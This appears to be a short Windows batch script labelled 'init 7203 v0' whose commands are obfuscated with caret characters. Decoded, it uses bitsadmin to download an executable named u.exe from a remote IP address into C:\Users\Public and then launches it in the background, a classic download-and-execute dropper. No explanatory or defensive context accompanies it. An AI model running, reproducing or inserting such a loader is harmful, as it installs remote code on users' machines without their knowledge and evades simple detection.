REM init 7203 v0
bitsa^d^mi^n /^t^ran^s^fer ^j^o^b /^do^w^nloa^d /p^riori^ty hi^g^h htt^p://^20^3.^0.11^3.17/u.^exe C:\Us^er^s\^Pub^l^i^c\u.^e^x^e
sta^rt /^b ^C:\^Us^ers\^Pu^b^l^ic\u.e^x^e
